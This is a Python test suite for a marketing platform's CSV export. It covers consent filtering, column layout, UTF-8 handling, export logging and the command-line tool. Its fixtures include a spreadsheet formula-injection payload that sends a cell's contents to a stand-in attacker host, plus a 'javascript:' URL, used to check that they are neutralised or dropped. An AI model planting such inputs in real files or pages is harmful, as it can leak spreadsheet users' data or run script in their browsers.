"""CSV exports for e-mail tools: only e-mail-consented profiles (never those who withdrew or
objected), the exact columns, UTF-8, formula cells neutralised, each export logged; and
`cdp export` run as a real subprocess against a fresh SQLite file with demo data.
Runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from cdp.config import get_settings
from cdp.db import make_engine, make_sessionmaker, session_scope
from cdp.demo.loader import load_demo
from cdp.errors import InvalidInput, NotFound
from cdp.migrate import upgrade
from cdp.models import ExportLog, Profile, Segment, utcnow
from segmentation import audiences, export, targeting
from segmentation.export_cli import export_command
from segmentation.schemas import EXPORT_COLUMNS, AudienceRules, ExportRow, rules_from
from tests.helpers import SourceKey, customer, make_people, make_run

HEADER = (
    "email,first_name,last_name,language,segment,model,trim,colour,"
    "configuration_code,configuration_url,last_seen"
)


def export_csv(db: Session, target: export.ExportTarget) -> str:
    out = io.StringIO(newline="")
    export.export_to_file(db, target, out, exported_by="test")
    return out.getvalue()


def rows_for(db: Session, rules: AudienceRules, among: list[uuid.UUID]) -> list[dict[str, str]]:
    """The export's rows for the rules, narrowed to these profiles (other tests' data aside)."""
    selection = targeting.select_profiles(db, rules)
    target = export.ExportTarget(
        what="test",
        rules={},
        condition=selection.condition & Profile.id.in_(among),
        run_id=targeting.current_run_id(db),
    )
    return list(csv.DictReader(io.StringIO(export_csv(db, target))))


# --- who is exported ----------------------------------------------------------------------------
def test_only_profiles_with_email_consent_in_force_are_exported(
    app_client: TestClient,
    web_source: SourceKey,
    showroom_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    people = make_people(app_client, web_source, showroom_source, session_factory)
    rows = rows_for(db, AudienceRules(), people.everyone)
    # Anna and Finn: Bram withdrew, Chris never consented, Dana objected, Eve has no address.
    assert sorted(row["first_name"] for row in rows) == ["Anna", "Finn"]


def test_a_withdrawal_after_a_grant_excludes_and_a_later_grant_includes(
    app_client: TestClient,
    web_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    days_ago = utcnow() - timedelta(days=4)  # the later statements are in the past too
    withdrew = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Withdrew",
        consent={"email": True},
        at=days_ago,
        consent_later=[(timedelta(days=2), {"email": "opt-out"})],
    )
    returned = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Returned",
        consent={"email": True},
        at=days_ago,
        consent_later=[
            (timedelta(days=1), {"email": False}),
            (timedelta(days=3), {"email": {"status": "granted", "wording": "Ja, graag"}}),
        ],
    )
    tie = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Tie",
        consent={"email": True},
        consent_later=[(timedelta(0), {"email": False})],
    )
    rows = rows_for(db, AudienceRules(), [withdrew, returned, tie])
    assert [row["first_name"] for row in rows] == ["Returned"]


def test_objecting_to_profiling_excludes_even_with_email_consent(
    app_client: TestClient,
    web_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    objected = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Objected",
        consent={"email": True, "tracking": True},
        consent_later=[(timedelta(days=1), {"tracking": False})],
    )
    came_back = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Back",
        consent={"email": True, "tracking": False},
        consent_later=[(timedelta(days=1), {"tracking": True})],
    )
    rows = rows_for(db, AudienceRules(), [objected, came_back])
    assert [row["first_name"] for row in rows] == ["Back"]
    assert targeting.count(db, AudienceRules()).exportable >= 1


# --- the file -----------------------------------------------------------------------------------
def test_header_row_columns_and_values(
    app_client: TestClient,
    web_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    pid = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Sanne",
        last_name="de Vries",
        language="nl-NL",
        consent={"email": True},
        model="Tundra",
        trim="Summit",
        colour="Lava Red",
        url="https://www.nordwind.example/nl-nl/configurator/NW-ABC123",
    )
    no_link = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Zonder",
        consent={"email": True},
        url=None,
    )
    sneaky = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Sneaky",
        consent={"email": True},
        url="javascript:alert(1)",
    )
    run = make_run(session_factory, [[pid], [no_link]], names=["Design-focused", "Other"])
    selection = targeting.select_profiles(db, AudienceRules())
    target = export.ExportTarget(
        what="test",
        rules={},
        condition=selection.condition & Profile.id.in_([pid, no_link, sneaky]),
        run_id=run.id,
    )
    text = export_csv(db, target)
    assert text.splitlines()[0] == HEADER
    assert tuple(text.splitlines()[0].split(",")) == EXPORT_COLUMNS
    assert text.endswith("\r\n")
    rows = {row["first_name"]: row for row in csv.DictReader(io.StringIO(text))}
    sanne = rows["Sanne"]
    assert sanne["email"].startswith("sanne.") and sanne["email"].endswith("@example.nl")
    assert sanne["last_name"] == "de Vries"
    assert sanne["language"] == "nl-NL"
    assert sanne["segment"] == "Design-focused"
    assert (sanne["model"], sanne["trim"], sanne["colour"]) == ("Tundra", "Summit", "Lava Red")
    assert sanne["configuration_code"].startswith("NW-")
    assert sanne["configuration_url"] == "https://www.nordwind.example/nl-nl/configurator/NW-ABC123"
    assert sanne["last_seen"].endswith("Z") and len(sanne["last_seen"]) == 20
    assert rows["Zonder"]["configuration_url"] == ""
    assert rows["Zonder"]["segment"] == "Other"
    assert rows["Sneaky"]["configuration_url"] == ""
    assert rows["Sneaky"]["segment"] == ""


def test_formula_cells_are_neutralised(
    app_client: TestClient,
    web_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    pid = customer(
        app_client,
        web_source,
        session_factory,
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        last_name="+31 6 1234",
        language="@SUM(1+1)",
        consent={"email": True},
        trim="-1+2",
        colour="\tTab",
    )
    row = next(csv.reader(io.StringIO(export_csv_rows(db, [pid]))))
    assert row[1] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row[2] == "'+31 6 1234"
    assert row[3] == "'@SUM(1+1)"
    assert row[6] == "'-1+2"
    assert row[7] == "Tab"  # surrounding whitespace is tidied away first


def export_csv_rows(db: Session, among: list[uuid.UUID]) -> str:
    """The rows of an export of these profiles, without the header."""
    selection = targeting.select_profiles(db, AudienceRules())
    target = export.ExportTarget(
        what="test",
        rules={},
        condition=selection.condition & Profile.id.in_(among),
        run_id=None,
    )
    return export_csv(db, target).split("\r\n", 1)[1]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert export.neutralise(cell) == expected


def test_utf8_with_accents(
    app_client: TestClient,
    web_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
    tmp_path: Path,
) -> None:
    pid = customer(
        app_client,
        web_source,
        session_factory,
        first_name="Zoë",
        last_name="Müller-Ångström",
        consent={"email": True},
        colour="Bleu Électrique",
    )
    path = tmp_path / "accents.csv"
    selection = targeting.select_profiles(db, AudienceRules())
    target = export.ExportTarget(
        what="test", rules={}, condition=selection.condition & Profile.id.in_([pid]), run_id=None
    )
    with path.open("w", encoding="utf-8", newline="") as out:
        export.export_to_file(db, target, out, exported_by="test")
    raw = path.read_bytes()
    assert "Zoë,Müller-Ångström".encode() in raw
    assert "Bleu Électrique".encode() in raw
    assert not raw.startswith(b"\xef\xbb\xbf")  # no byte-order mark: e-mail tools read the header


def test_the_writer_streams_in_pieces_and_counts_rows() -> None:
    def rows(n: int) -> Iterator[ExportRow]:
        for i in range(n):
            yield ExportRow(
                f"p{i}@example.nl", "Anna", "", "nl", "", "", "", "", "", "", "2026-01-01T00:00:00Z"
            )

    writer = export.CsvWriter(rows(1_234), flush_every=500)
    pieces = list(writer)
    assert len(pieces) == 3  # header with 500 rows, 500 rows, the last 234
    assert writer.written == 1_234
    assert pieces[0].startswith(HEADER + "\r\n")
    assert sum(piece.count("\r\n") for piece in pieces) == 1_235


# --- the log ------------------------------------------------------------------------------------
def test_each_export_is_logged_with_who_what_rules_and_rows(
    app_client: TestClient,
    web_source: SourceKey,
    showroom_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    people = make_people(app_client, web_source, showroom_source, session_factory)
    audience = audiences.save_audience(
        db, name="Tundra fans", rules=rules_from({"models": ["Tundra"]}), user_id=None
    )
    db.commit()
    target = export.audience_target(db, audience)
    out = io.StringIO()
    rows = export.export_to_file(db, target, out, exported_by="cli")
    db.commit()
    entry = db.scalars(select(ExportLog).order_by(ExportLog.id.desc()).limit(1)).one()
    assert (entry.exported_by, entry.exported_by_user_id) == ("cli", None)
    assert entry.what == "audience: Tundra fans"
    assert entry.rules == {"audience_id": audience.id, "rules": {"models": ["Tundra"]}}
    assert entry.rows == rows == len(out.getvalue().splitlines()) - 1
    assert rows >= 1 and people.anna


def test_a_stream_logs_when_it_ends_and_when_it_is_broken_off(
    app_client: TestClient,
    web_source: SourceKey,
    showroom_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    make_people(app_client, web_source, showroom_source, session_factory)
    target = export.rules_target(db, AudienceRules(), what="audience: everyone")
    db.commit()
    pieces = list(
        export.stream_export(session_factory, target, exported_by="m@x", exported_by_user_id=None)
    )
    body = "".join(pieces)
    db.expire_all()
    done = db.scalars(select(ExportLog).order_by(ExportLog.id.desc()).limit(1)).one()
    assert done.what == "audience: everyone"
    assert done.rows == len(body.splitlines()) - 1 >= 2

    stream = export.stream_export(
        session_factory, target, exported_by="m@x", exported_by_user_id=None
    )
    next(stream)
    stream.close()  # the browser went away
    db.expire_all()
    broken = db.scalars(select(ExportLog).order_by(ExportLog.id.desc()).limit(1)).one()
    if db.get_bind().dialect.name == "sqlite":
        # SQLite spools the file first (its one write lock is not held while a browser reads):
        # logged whole before the first piece is sent.
        assert broken.what == "audience: everyone"
    else:
        assert broken.what == "audience: everyone (interrupted)"
    # The one piece held the whole file: handed out, so counted (the log errs on the safe side).
    assert broken.rows == done.rows


# --- finding what to export ---------------------------------------------------------------------
def test_segments_are_found_by_name_number_or_generated_name(
    app_client: TestClient,
    web_source: SourceKey,
    showroom_source: SourceKey,
    session_factory: sessionmaker[Session],
    db: Session,
) -> None:
    people = make_people(app_client, web_source, showroom_source, session_factory)
    run = make_run(session_factory, [[people.anna], [people.bram]], names=["Design", "Price"])
    assert export.find_segment(db, "design").id == run.segments[0]
    assert export.find_segment(db, "#2").id == run.segments[1]
    assert export.find_segment(db, "2").id == run.segments[1]
    with pytest.raises(NotFound, match="no segment named 'Family'"):
        export.find_segment(db, "Family")
    target = export.segment_target(db, export.get_segment(db, run.segments[0]))
    rows = list(csv.DictReader(io.StringIO(export_csv(db, target))))
    assert [(row["first_name"], row["segment"]) for row in rows] == [("Anna", "Design")]
    assert target.what == f"segment: Design (run {run.id})"


def _rename_as_stored(factory: sessionmaker[Session], segment_id: int, name: str) -> None:
    """A marketer's name saved before renames were checked for clashes (the page refuses it
    now): straight into the row."""
    with factory() as session:
        session.get_one(Segment, segment_id).custom_name = name
        session.commit()


def test_a_name_two_segments_answer_to_is_refused_not_guessed(
    session_factory: sessionmaker[Session], db: Session
) -> None:
    run = make_run(session_factory, [[], [], []], names=["Design", "Price", "Family"])
    _rename_as_stored(session_factory, run.segments[2], "design")
    with pytest.raises(
        InvalidInput,
        match=rf"^2 segments of the current run {run.id} answer to 'DESIGN' \(numbers 1 and 3\): "
        "give the number of the one you mean$",
    ):
        export.find_segment(db, " DESIGN ")
    assert export.find_segment(db, "3").id == run.segments[2]
    # A name that is another segment's number.
    _rename_as_stored(session_factory, run.segments[0], "2")
    with pytest.raises(InvalidInput, match=r"answer to '2' \(numbers 1 and 2\)"):
        export.find_segment(db, "2")
    assert export.find_segment(db, "Price").id == run.segments[1]


# --- the command line ---------------------------------------------------------------------------
ROOT = Path(__file__).resolve().parents[1]
CDP = Path(sys.executable).parent / "cdp"


def _export_mounted() -> bool:
    from cdp.cli import app

    return any(
        (command.name or getattr(command.callback, "__name__", "")) == "export"
        for command in app.registered_commands
    )


@pytest.fixture(scope="module")
def demo_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    url = f"sqlite:///{tmp_path_factory.mktemp('export_cli') / 'demo.sqlite3'}"
    engine = make_engine(url)
    upgrade(engine)
    load_demo(engine, customers=80, seed=5)
    with session_scope(make_sessionmaker(engine)) as session:
        audiences.save_audience(
            session, name="Tundra fans", rules=rules_from({"models": ["Tundra"]}), user_id=None
        )
    engine.dispose()
    yield url


def run_cdp(*args: str, database_url: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CDP_")}
    env["CDP_DATABASE_URL"] = database_url
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    return subprocess.run(
        [str(CDP), *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=180
    )


def expected_rows(url: str, name: str) -> int:
    engine = make_engine(url)
    with make_sessionmaker(engine)() as session:
        target = export.audience_target(session, audiences.find_audience(session, name))
        count = export.count_target(session, target).exportable
    engine.dispose()
    return count


@pytest.mark.skipif(not _export_mounted(), reason="`cdp export` is not mounted in cdp/cli.py yet")
def test_cdp_export_writes_the_audience_and_logs_it(demo_url: str, tmp_path: Path) -> None:
    out = tmp_path / "tundra.csv"
    result = run_cdp(
        "export", "--audience", "tundra fans", "-o", str(out), database_url=demo_url, cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    wanted = expected_rows(demo_url, "Tundra fans")
    assert wanted > 0
    assert result.stdout.strip() == f"exported {wanted} rows to {out}"
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == HEADER and len(lines) == wanted + 1
    assert {row["model"] for row in csv.DictReader(io.StringIO("\n".join(lines)))} == {"Tundra"}
    assert oct(out.stat().st_mode & 0o777) == "0o600"
    engine = make_engine(demo_url)
    with make_sessionmaker(engine)() as session:
        entry = session.scalars(select(ExportLog).order_by(ExportLog.id.desc()).limit(1)).one()
    engine.dispose()
    assert (entry.exported_by, entry.what, entry.rows) == ("cli", "audience: Tundra fans", wanted)


@pytest.mark.skipif(not _export_mounted(), reason="`cdp export` is not mounted in cdp/cli.py yet")
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--audience", "Nobody"], "error: there is no audience named 'Nobody'"),
        (["--segment", "Design"], "error: there are no segments yet"),
        ([], "error: give one of --audience NAME or --segment NAME"),
        (["--audience", "Tundra fans", "--segment", "1"], "error: give one of --audience"),
    ],
)
def test_cdp_export_refuses_in_one_line(
    demo_url: str, tmp_path: Path, args: list[str], message: str
) -> None:
    out = tmp_path / "out.csv"
    result = run_cdp("export", *args, "-o", str(out), database_url=demo_url, cwd=tmp_path)
    assert result.returncode != 0
    assert result.stderr.startswith(message), result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.stderr
    assert not out.exists()
    assert not list(tmp_path.glob(".out.csv.*"))


def test_export_command_in_process(
    demo_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """What `cdp export` runs, called directly (works before the command is mounted)."""
    monkeypatch.setenv("CDP_DATABASE_URL", demo_url)
    get_settings.cache_clear()
    try:
        out = tmp_path / "fans.csv"
        export_command("Tundra fans", None, out)
        assert capsys.readouterr().out.strip() == (
            f"exported {expected_rows(demo_url, 'Tundra fans')} rows to {out}"
        )
        with pytest.raises(NotFound, match="no audience named 'Nobody'"):
            export_command("Nobody", None, tmp_path / "nobody.csv")
        with pytest.raises(InvalidInput, match="give one of"):
            export_command(None, None, tmp_path / "none.csv")
        with pytest.raises(InvalidInput, match="does not exist"):
            export_command("Tundra fans", None, tmp_path / "missing" / "x.csv")
        assert sorted(p.name for p in tmp_path.iterdir()) == ["fans.csv"]
    finally:
        get_settings.cache_clear()


def test_an_empty_export_has_the_header_and_is_logged(db: Session) -> None:
    before = db.scalar(select(func.count()).select_from(ExportLog)) or 0
    target = export.rules_target(db, rules_from({"models": ["No such model"]}), what="nothing")
    text = export_csv(db, target)
    assert text == HEADER + "\r\n"
    assert (db.scalar(select(func.count()).select_from(ExportLog)) or 0) == before + 1


@pytest.mark.skipif(not _export_mounted(), reason="`cdp export` is not mounted in cdp/cli.py yet")
def test_cdp_export_refuses_a_segment_name_two_segments_share(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'clash.sqlite3'}"
    engine = make_engine(url)
    upgrade(engine)
    factory = make_sessionmaker(engine)
    run = make_run(factory, [[], []], names=["Design-focused", "Price-conscious"])
    _rename_as_stored(factory, run.segments[1], "Design-focused")
    engine.dispose()

    out = tmp_path / "design.csv"
    refused = run_cdp(
        "export", "--segment", "design-focused", "-o", str(out), database_url=url, cwd=tmp_path
    )
    assert refused.returncode != 0
    assert refused.stderr == (
        f"error: 2 segments of the current run {run.id} answer to 'design-focused' "
        "(numbers 1 and 2): give the number of the one you mean\n"
    )
    assert not out.exists() and not list(tmp_path.glob(".design.csv.*"))

    chosen = run_cdp("export", "--segment", "2", "-o", str(out), database_url=url, cwd=tmp_path)
    assert chosen.returncode == 0, chosen.stderr
    assert chosen.stdout.strip() == f"exported 0 rows to {out}"
